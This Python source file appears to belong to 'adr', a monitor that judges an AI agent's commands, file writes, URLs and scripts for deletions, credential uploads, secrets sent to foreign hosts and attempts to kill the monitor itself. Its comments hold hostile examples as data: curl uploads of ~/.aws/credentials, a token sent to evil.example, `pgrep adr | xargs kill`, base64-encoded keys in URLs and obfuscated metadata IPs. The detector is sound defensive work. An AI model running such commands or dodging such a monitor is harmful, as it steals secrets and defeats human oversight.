        if self.program in _INTO_DIR and self.targets is not None:
            pos = [a for a in self.cmd.argv[1:] if a and not a.startswith("-")]
            if len(pos) >= 2:
                dest = norm(pos[-1], self.cwd, self.home)
                # what lands there keeps its name: one name, never a tree (`find … -exec mv {} DIR`
                # moves `START/**` one file at a time, each to DIR/NAME)
                into = [dest.rstrip("/") + "/" + ("*" if b == "**" else b) for s in pos[:-1]
                        if (b := s.rstrip("/").rsplit("/", 1)[-1]) not in ("", ".", "..", "*")]
                if into:
                    got = tuple(dict.fromkeys(got + self._with_forms([(i, i) for i in into], own=own)))
        return got

    @lazy
    def removes(self) -> tuple[str, ...]:
        return self._removes(False)

    @lazy
    def own_removes(self) -> tuple[str, ...]:
        """removes as self-defense spells them (another user's home stays apart)."""
        return self._removes(True)

    def _removes(self, own: bool) -> tuple[str, ...]:
        """Paths this command removes, moves away or changes the permissions of (normalized, with
        their other forms): rm/rmdir/unlink/shred operands, mv sources, chmod/chown/chattr operands,
        find's start points with -delete/-exec, rsync's destination with --delete."""
        prog = self.program
        argv = self.cmd.argv[1:]
        pos = [a for a in argv if a and not a.startswith("-")]
        spares: tuple[str, ...] = ()
        if prog in _REMOVERS:
            if prog in _FILE_REMOVERS and not any(a != "--" and is_recursive_flag(a) for a in argv):
                spares = ("dirs",)  # rm without -r, rmdir, unlink: no non-empty directory goes
            picked = pos[1:] if prog == "gio" and pos[:1] in (["trash"], ["remove"]) else ([] if prog == "gio" else pos)
        elif prog in ("mv", "gmv"):
            picked = pos if any(a in ("-t",) or a.startswith("--target-directory") for a in argv) else pos[:-1]
        elif prog in _MODE_FIRST:
            picked = pos[1:] if not any(a.startswith("--reference") for a in argv) else pos
        elif prog == "find" and _find_removes_adr(argv):
            picked = []
            for a in argv:
                if a.startswith(("-", "(", "!", ")")):
                    break
                picked.append(a)
        elif prog == "rsync" and len(pos) >= 2:
            picked = []
            if any(a.startswith(("--delete", "--del")) for a in argv):
                picked.append(pos[-1])
            if "--remove-source-files" in argv:
                picked += pos[:-1]
        else:
            return ()
        pairs = [(a, normalize(a, self.cwd, self.home)) for a in picked if len(a) <= 4096]
        if own:
            return self._own(pairs, self.removes, spares)
        return self._with_forms(pairs, spares)

    @lazy
    def signals_adr(self) -> bool:
        """This command signals, traces or starves one of adr's processes: a pid-taking program
        (kill, gdb -p, strace -p, renice …) naming adr's pid, pkill/killall whose pattern selects
        adr, or a kill whose pid comes from a lookup of adr elsewhere in the line (`pgrep adr | xargs
        kill`, `kill $(pidof adr)`). Needs what the judge knows about adr's processes (Resolved)."""
        t = self.targets
        if t is None or not (t.pids or t.procs):
            return False
        prog = self.program
        if prog in ("pkill", "killall", "skill", "snice"):
            from adr.engine.targets import finds_adr
            return finds_adr(self.cmd.argv, t.procs)
        if prog not in PID_PROGRAMS:
            return False
        for a in self.cmd.argv[1:]:
            for v in (a, a.lstrip("-"), a.split("=", 1)[-1], a[2:] if a.startswith("-p") else ""):
                if v and v in t.pids:
                    return True
        if t.line_finds_adr:
            # no literal pid: the pids come from the line's own lookup of adr ($(…), a variable, xargs)
            return not any(a.isdigit() for a in self.positionals) if prog == "kill" else not any(
                a.isdigit() for a in self.cmd.argv[1:])
        return False

    @lazy
    def uploads(self) -> tuple[str, ...]:
        """Local files this command sends off the machine (curl -d @f, -F x=@f, -T, scp/rsync/rclone
        to a remote, gh gist create …), normalized as paths."""
        # with their other forms: `cd ~/.aws; curl -F f=@credentials …` sends ~/.aws/credentials
        prog = self.program
        if prog == "httpd" and any(w in ("busybox", "toybox") for w in self.wrappers):
            prog = BUSYBOX_HTTPD  # serves the working directory unless told otherwise
        return self._with_forms([(p, normalize(p, self.cwd, self.home))
                                 for p in uploaded_files(prog, self.args_tuple, self.cmd.stdin_text)])

    @lazy
    def outside_project(self) -> bool:
        """An argument names a path outside the working directory's tree."""
        root = project_root(self.cwd, self.home)
        return bool(root) and any(_outside(p, root) for p in self.paths)

    @lazy
    def in_file(self) -> bool:
        """The command was found in a file or config that runs it later (not a call made now through
        an MCP tool, whose note only says where it came from)."""
        return bool(self.note) and not self.note.startswith("via MCP ")

    @lazy
    def git_new_remote_host(self) -> bool:
        """`git remote add|set-url`, `git config remote.X.url|pushurl` or `-c remote.X.url=` naming a
        host none of the repository's remotes use (later pushes would go there). Unknown repository
        or one without remotes: False."""
        if not self.git_hosts or self.program != "git":
            return False
        host = url_host(_git_remote_url(self.cmd.argv[1:]))
        return bool(host) and host not in self.git_hosts

    @lazy
    def secret_to_other_host(self) -> bool:
        """A service's secret variable (`$GITHUB_TOKEN`) is sent, in any part of the request, to a host
        that is not that service's (adr/engine/secretenv.py)."""
        fed = fed_names(self.cmd, self.line) if self.line else frozenset()
        args = self.args_tuple
        for e in self.cmd.env:  # `GH_HOST=evil.example gh auth login --with-token`: the host it logs in to
            if e.startswith(("GH_HOST=", "GITLAB_HOST=", "GL_HOST=")) and self.program in ("gh", "glab"):
                args = args + ("--hostname", e.split("=", 1)[1])
        return command_sends_foreign(self.program, args, self.cmd.stdin_text, self.cmd.raw, fed) is not None

    @lazy
    def secret_to_own_service(self) -> bool:
        """Every secret variable on the request names its service, and only that service gets it."""
        return only_own_services(self.program, self.args_tuple, self.cmd.stdin_text, self.cmd.raw)

    @lazy
    def token_to_own_service(self) -> bool:
        """This command prints a service's token (`gh auth token`) and only that service's own hosts
        receive it (the line's commands: set by the engine for token printers)."""
        line = self.line
        return bool(line) and token_stays_with_service(self.cmd, line)

    @lazy
    def write_targets(self) -> tuple[str, ...]:
        """Redirect targets, and the files an option or operand names as the output (`sort -o F`)."""
        pairs = self._redirect_pairs((">", ">>", ">|", "&>", "&>>", "<>"))
        # `>& FILE` is `&> FILE` (a number or `-` after it duplicates a descriptor instead)
        pairs += [(r.target, normalize(r.target, self.cwd, self.home)) for r in self.cmd.redirects
                  if r.op == ">&" and r.target and not r.target.isdigit() and r.target != "-"]
        if self.program in OUTPUT_WRITERS:
            pairs += [(e.path, normalize(e.path, self.cwd, self.home))
                      for e in output_writes(self.program, self.args_tuple)]
        return self._with_forms(pairs, words=True)

    @property
    def evidence_subject(self) -> str:
        return self.cmd.text


_JSON_ASCII_ESCAPE = lazyre.compile(r"\\u00([2-7][0-9a-fA-F])")


def _json_unescaped(path: str, content: str) -> str:
    """A JSON file's printable-ASCII `\\uXXXX` escapes as the characters they stand for: a reader
    of `{"mcp\\u0053ervers": …}` or `"run\\u004fn": "folderOpen"` sees mcpServers and runOn, so
    the rules must too. (Quotes and backslashes stay escaped: the JSON keeps its shape.)"""
    if "\\u00" not in content or not path.lower().endswith((".json", ".jsonc", ".json5", ".code-workspace")):
        return content
    return _JSON_ASCII_ESCAPE.sub(lambda m: m.group(0) if m.group(1).lower() in ("22", "5c") else chr(int(m.group(1), 16)),
                                  content[:1 << 20]) + content[1 << 20:]


class FileSubject:
    on = "file"
    # one move takes this and at least one other of the project's files out of it (engine/core.py)
    moved_together = False
    # … and that project is a git repository under a temporary folder (Resolved.temp_project)
    in_temp_project = False
    # the hosts the repository's pushes went to before this write, when the judge read them (a write to
    # its .git/config or .lfsconfig: Resolved.git_remote_hosts); None: not known
    git_hosts: "tuple[str, ...] | None" = None

    def __init__(self, kind: str, path: str, content: str | None, cwd: str, home: str,
                 old_content: str = "", by: str = "", via: str = "", append: bool = False,
                 recursive: bool = False, spares: "tuple[str, ...]" = ()) -> None:
        self.kind = kind  # write | edit | read | delete
        self.raw_path = path
        self.path = normalize(path, cwd, home)
        self.content = _json_unescaped(path, content) if content is not None else ""
        self.content_known = content is not None
        self.old_content = old_content
        self.by = by
        self.via = via
        self.append = append
        self.recursive = recursive  # a delete that takes a directory tree with it
        self.spares = spares  # what a delete provably leaves alone (shell/effects.py Effect.spares)
        self.cwd = cwd
        self.home = home

    @lazy
    def own_path(self) -> str:
        """path as self-defense spells it: another user's home stays apart (`/home/www/x`)."""
        return normalize_own(self.raw_path, self.cwd, self.home)

    @property
    def evidence_subject(self) -> str:
        return self.path

    @lazy
    def outside_project(self) -> bool:
        """The path lies outside the working directory's tree (the project the agent works in)."""
        return _outside(self.path, project_root(self.cwd, self.home))

    @lazy
    def git_new_remote_host(self) -> bool:
        """The text written sends the repository's pushes (a remote's URL, its LFS server) to a host
        none of its remotes used; an edit's fragment, to any host it names that they did not. Unknown
        repository, or one without remotes: False (as for `git remote add`)."""
        if not self.git_hosts or not self.content:
            return False
        hosts = config_push_hosts(self.content)
        if hosts is None:
            return True  # an include of another file: where it sends pushes is not known
        if self.kind == "edit" or not hosts:
            hosts = hosts + named_hosts(self.content)
        return any(h not in self.git_hosts for h in hosts)

    @lazy
    def whole_project(self) -> bool:
        """The path is the working directory's tree itself (`cd .. && rm -rf project`, `rm -rf "$PWD"`)."""
        root = project_root(self.cwd, self.home)
        return bool(root) and self.path.rstrip("/") == root


def _canonical_host(h: str) -> str:
    """An IP address however it is spelled — decimal (`2852039166`), hex (`0xa9fea9fe`), octal, short
    (`169.254.43518`), IPv4-mapped IPv6 (`::ffff:169.254.169.254`) — as its dotted form, which is how
    the rules name addresses. Any other host as it is."""
    import ipaddress
    import socket
    if not h:
        return h
    if re.fullmatch(r"[0-9a-fx.]+", h) and any(c.isdigit() for c in h) and not re.fullmatch(r"\d{1,3}(?:\.\d{1,3}){3}", h):
        try:
            return socket.inet_ntoa(socket.inet_aton(h))  # (the libc reading of the name: what a client connects to)
        except OSError:
            return h
    if ":" in h:
        try:
            ip = ipaddress.ip_address(h)
        except ValueError:
            return h
        mapped = getattr(ip, "ipv4_mapped", None)
        return str(mapped) if mapped is not None else str(ip)
    return h


class UrlSubject:
    on = "url"

    def __init__(self, url: str, via: str = "", by: str = "") -> None:
        self.url = url.strip()
        self.via = via
        self.by = by
        try:
            parts = urlsplit(self.url if "://" in self.url else "http://" + self.url)
            self.scheme = parts.scheme.lower()
            self.host = _canonical_host((parts.hostname or "").lower().rstrip("."))
            self.port = parts.port or 0
            self.path = parts.path
        except ValueError:
            self.scheme, self.host, self.port, self.path = "", "", 0, ""

    @property
    def evidence_subject(self) -> str:
        return self.url

    @lazy
    def is_ip(self) -> bool:
        h = self.host
        if h.replace(".", "").isdigit() and h.count(".") == 3:
            return True
        return ":" in h  # IPv6 literal

    @lazy
    def tld(self) -> str:
        return self.host.rsplit(".", 1)[-1] if "." in self.host else ""

    @lazy
    def decoded(self) -> str:
        """What the URL's base64 (standard or URL-safe) and hex runs say, decoded where that is text:
        a key read earlier and sent encoded (`/?d=LS0tLS1CRUdJTi…`) is the key sent."""
        return decoded_runs(self.url)


_BASE64_RUN = lazyre.compile(r"[A-Za-z0-9+/_-]{24,8192}={0,2}")
_HEX_RUN = lazyre.compile(r"[0-9a-fA-F]{32,8192}")
MAX_DECODED_RUNS = 16


def decoded_runs(text: str) -> str:
    """The base64 (standard or URL-safe) and hex runs of a URL-like text decoded, the ones that are
    text, one per line ("" when none): percent-escapes are undone first (`%2B`, `%2F`, `%3D`)."""
    import base64
    import binascii
    from urllib.parse import unquote

    if len(text) < 24:
        return ""
    plain = unquote(text[:65536])
    out: list[str] = []
    for m in _HEX_RUN.finditer(plain):
        run = m.group(0)
        if len(out) < MAX_DECODED_RUNS and len(run) % 2 == 0:
            _printable(binascii.unhexlify(run), out)
    for m in _BASE64_RUN.finditer(plain):
        run = m.group(0)
        # ("/" is base64 and a path's separator: `/c/LS0tLS1…/x` is also read segment by segment)
        for body in [run] + ([seg for seg in run.split("/") if len(seg) >= 24][:8] if "/" in run else []):
            if len(out) >= MAX_DECODED_RUNS:
                break
            body = body.rstrip("=")
            try:
                _printable(base64.b64decode(body.replace("-", "+").replace("_", "/") + "=" * (-len(body) % 4)), out)
            except (binascii.Error, ValueError):
                continue
    return "\n".join(out)


def _printable(data: bytes, out: "list[str]") -> None:
    if data and sum(32 <= b < 127 or b in (9, 10, 13) for b in data) >= 0.9 * len(data):
        out.append(data.decode("ascii", "replace"))


# how code names the user's home: replaced by ~ so literals joined to it read as paths
_HOME_IN_CODE = lazyre.compile(
    r"""os\.path\.expanduser\(\s*(['"])~\1\s*\)|Path\.home\(\)|(?:\bos\.)?\bhomedir\(\)|"""
    r"""os\.environ\[\s*(['"])HOME\2\s*\]|os\.environ\.get\(\s*(['"])HOME\3\s*\)|\bgetenv\(\s*(['"])HOME\4\s*\)|"""
    r"""process\.env\.HOME\b|process\.env\[\s*(['"])HOME\5\s*\]|\bENV\[\s*(['"])HOME\6\s*\]|Dir\.home\b""")
_HOME_IN_STRING = lazyre.compile(r"""\$ENV\{\s*HOME\s*\}|\$\{HOME\}|\$HOME\b|#\{\s*(?:Dir\.home|ENV\[\s*['"]HOME['"]\s*\])\s*\}""")
_CODE_STRING = lazyre.compile(r"""'([^'\\\n]*(?:\\.[^'\\\n]*)*)'|"([^"\\\n]*(?:\\.[^"\\\n]*)*)"|`([^`\\\n]*)`""")
_JOINER = lazyre.compile(r"\s*(?:[,+/.]|\.\s*|\+\s*)?\s*")
_OPEN_MODE = lazyre.compile(r"^[<>+|&\s]+")
MAX_CODE_SCAN = 64 * 1024
MAX_CODE_PATHS = 64


def _glob_literal(raw: str) -> bool:
    """A literal path with shell pattern characters (`~/.ss?/id_r*`, `/home/*/.aws/c*`)."""
    return raw[:1] in ("/", "~") and any(ch in raw for ch in "*?[")


def code_paths(code: str) -> list[str]:
    """Path-like string literals in interpreter code, with literals joined by `,` `+` `/` `.` read
    as one path (`os.path.join(Path.home(), '.config', 'adr')` → `~/.config/adr`)."""
    text = code[:MAX_CODE_SCAN]
    if "/" not in text and "~" not in text and "HOME" not in text and "home" not in text:
        return []
    lits = [(m.start(), m.end(), m) for m in _CODE_STRING.finditer(text) if m.end() - m.start() <= 4098]
    items: list[tuple[int, int, str]] = []
    li = 0
    for h in _HOME_IN_CODE.finditer(text) if ("HOME" in text or "home" in text) else ():
        while li < len(lits) and lits[li][1] <= h.start():
            items.append(_lit(lits[li]))
            li += 1
        if li < len(lits) and lits[li][0] < h.start():
            continue  # `Dir.home` inside "#{Dir.home}": the string's
        items.append((h.start(), h.end(), "~"))
        while li < len(lits) and lits[li][0] < h.end():
            li += 1  # the literal inside the idiom (`environ['HOME']`)
    items += [_lit(x) for x in lits[li:]]
    out: dict[str, None] = {}
    run: list[str] = []
    prev_end = -1
    for start, end, lit in items:
        if run and not _JOINER.fullmatch(text, prev_end, start):
            _flush(run, out)
            run = []
        run.append(lit)
        prev_end = end
        if len(out) >= MAX_CODE_PATHS:
            break
    _flush(run, out)
    return list(out)[:MAX_CODE_PATHS]


def _lit(x: "tuple[int, int, re.Match[str]]") -> tuple[int, int, str]:
    m = x[2]
    lit = next(g for g in m.groups() if g is not None)
    if "$" in lit or "#{" in lit:
        lit = _HOME_IN_STRING.sub("~", lit)
    return x[0], x[1], _OPEN_MODE.sub("", lit)


def _pathish(lit: str) -> bool:
    """Could this literal be (part of) a path? Not prose or code: no line breaks, no blanks unless
    it is absolute (`~/Library/Application Support/…`), not too long."""
    if not lit or len(lit) > 1024 or "\n" in lit or "\\n" in lit or "\t" in lit:
        return False
    return not (" " in lit and not lit.startswith(("/", "~")))


def _flush(run: list[str], out: dict[str, None]) -> None:
    run = [x.strip() for x in run[:16] if _pathish(x.strip())]
    for lit in run:
        if lit == "~" and len(run) > 1:
            continue  # the home a path is joined to, not a target of its own
        if "/" in lit or lit.startswith("~") or "." in lit.strip("."):
            out[lit] = None
    for k in range(2, len(run) + 1):  # every prefix: open(home + '/x', 'w') joins 'w' too
        out["/".join(run[:k])] = None


# a glob function's pattern in code, and whether it is taken below the home (`Path.home().glob(…)`)
_CODE_GLOB = lazyre.compile(r"(?:(\b(?:Path\.home\(\)|homedir\(\)|Dir\.home)\s*\.\s*r?glob)|\b(?:i?glob(?:Sync)?|rglob|Dir\.glob|Dir)\b)"
                            r"\s*[\(\[]\s*['\"]([^'\"\n]{1,512})['\"]")


class ScriptSubject:
    on = "script"

    def __init__(self, language: str, code: str, via: str = "", cwd: str = "", home: str = "",
                 targets: "Targets | None" = None, stdin: "tuple[str, ...]" = ()) -> None:
        self.language = language
        self.code = code
        self.via = via
        self.cwd = cwd
        self.home = home
        self.targets = targets
        self.stdin = stdin  # files the line feeds the code on stdin, as written

    @lazy
    def stdin_paths(self) -> tuple[str, ...]:
        """The files fed to the code on stdin (normalized, with their other forms)."""
        pairs = [(p, normalize(p, self.cwd, self.home)) for p in self.stdin]
        out = [n for _, n in pairs if n]
        t = self.targets
        if t is not None:
            out += [f for raw, n in pairs for f in t.forms(raw, n, shell=False)]
        return tuple(dict.fromkeys(out))

    @lazy
    def paths(self) -> tuple[str, ...]:
        """Paths the code names in string literals (normalized, with their other forms). A pattern the
        code hands a glob function (`glob.glob('/home/*/.*/adr/*.yaml')`, `Path.home().glob('.c*/x')`)
        is judged as every protected path it could expand to, as a shell glob is."""
        pairs = [(p, normalize(p, self.cwd, self.home)) for p in code_paths(self.code)]
        globbed: dict[str, None] = {}
        if "glob" in self.code or "Dir[" in self.code:
            for m in _CODE_GLOB.finditer(self.code[:MAX_CODE_SCAN]):
                raw = ("~/" if m.group(1) else "") + m.group(2)
                globbed[raw] = None
                pairs.append((raw, normalize(raw, self.cwd, self.home)))
        out = [n for _, n in pairs if n]
        t = self.targets
        if t is not None:
            # (a pattern spelled in from the line's words — `python3 -c '…open(sys.argv[1])…' ~/.ss?/id_r*`:
            # the shell expanded it before the code ran — is judged as a shell glob too)
            out += [f for raw, n in pairs for f in t.forms(raw, n, shell=raw in globbed or _glob_literal(raw),
                                                             words=False)]
        return tuple(dict.fromkeys(out))

    @lazy
    def secret_to_other_host(self) -> bool:
        """The code reads a service's secret variable and calls a URL of another host."""
        return code_sends_foreign(self.code) is not None

    @lazy
    def runs_decoded(self) -> bool:
        """A run call (execSync(c), system($c), os.system(c), exec(c) …) is handed decoded text."""
        return runs_decoded(self.code)

    @lazy
    def signals_adr(self) -> bool:
        """The code signals a process and names one of adr's pids."""
        t = self.targets
        if t is None or not t.pids or not _KILL_IN_CODE.search(self.code[:MAX_CODE_SCAN]):
            return False
        return any(re.search(rf"(?<![\w.]){p}(?![\w.])", self.code[:MAX_CODE_SCAN]) for p in t.pids)

    @property
    def evidence_subject(self) -> str:
        return self.code[:200]


class ShellSubject:
    on = "shell"

    def __init__(self, source: str, issues: tuple[str, ...], programs: frozenset[str]) -> None:
        self.source = source
        self.issues = issues
        self.programs = programs

    @property
    def evidence_subject(self) -> str:
        return self.source[:300]

    @property
    def programs_tuple(self) -> tuple[str, ...]:
        return tuple(sorted(self.programs))


class TextSubject:
    """Text the agent read (a tool's output, an instruction file, an MCP tool's description), in the
    three views of adr.engine.textnorm."""

    on = "text"

    def __init__(self, view: "TextView", source: str, tool: str = "", origin: str = "") -> None:
        self.view = view
        self.body = view.text  # not "text": CommandSubject.text is the argv, and the regex bank keys by name
        self.instructions_superset = view.instructions_superset
        self.hidden = view.hidden
        self.markers = view.markers
        self.source = source
        self.tool = tool
        self.origin = origin

    @lazy
    def instructions(self) -> str:
        return self.view.instructions  # the quotation pass, only when the superset could match

    @property
    def evidence_subject(self) -> str:
        return self.origin or self.source


# a JSON string's whitespace escapes (`\n`, `\t`, `\u0020` …), not preceded by another backslash
_JSON_SPACE = lazyre.compile(r"(?<!\\)\\(?:[ntrfb]|u00(?:0[9abcd]|20))")


_SQL_BLOCK_COMMENT = lazyre.compile(r"/\*.*?\*/", re.S)


def _tool_words(name: str) -> str:
    """`addSSHKey`, `add-ssh-key`, `ADD_SSH_KEY`, `github.addSshKey` → `add_ssh_key` (the last dotted
    part; camel-case humps and acronyms split; separators made `_`)."""
    name = name.rsplit(".", 1)[-1].rsplit("/", 1)[-1]
    name = re.sub(r"([A-Z]+)([A-Z][a-z])", r"\1_\2", name)
    name = re.sub(r"([a-z0-9])([A-Z])", r"\1_\2", name)
    return re.sub(r"[^a-z0-9]+", "_", name.lower()).strip("_")


class McpSubject:
    on = "mcp"

    def __init__(self, server: str, tool: str, arguments: str) -> None:
        self.server = server
        self.tool = tool
        # rules read the arguments' JSON text as the server will read its strings: `"DELETE FROM\n
        # users"` is `DELETE FROM users` to the database (a `\s` must match what the escape stands for)
        args = _JSON_SPACE.sub(" ", arguments) if "\\" in arguments else arguments
        if "/*" in args:  # SQL block comments are whitespace to the database (`DELETE/**/FROM t`)
            args = _SQL_BLOCK_COMMENT.sub(" ", args)
        # a quoted identifier (`delete from \"users\"`) as the rules' identifier quote
        self.arguments = args.replace('\\"', "`") if '\\"' in args else args
        self.tool_name = _tool_words(tool)

    @property
    def evidence_subject(self) -> str:
        return f"{self.server}.{self.tool}"
